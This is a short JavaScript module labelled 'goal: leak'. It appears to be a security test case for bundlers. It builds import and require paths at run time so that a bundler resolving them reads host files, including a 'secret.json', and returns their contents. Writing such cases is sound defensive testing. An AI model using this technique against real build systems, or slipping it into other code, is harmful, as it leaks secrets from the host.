// class: host tooling
// goal: leak
// Imports whose path is put together at run time: a bundler that looks for what could be meant reads files of the host.
export default async () => {
  const said = [];
  for (const name of ['static', 'secret', 'package'])
    for (const load of [
      () => import(`../${name}.json`),
      () => import(`./../${name}.json`, { with: { type: 'json' } }),
      () => require(`../${name}.json`),
      () => require('../' + name + '.json'),
    ])
      try {
        said.push(JSON.stringify(await load()));
      } catch (error) {
        said.push(String(error.message));
      }
  return said.join('\n');
};
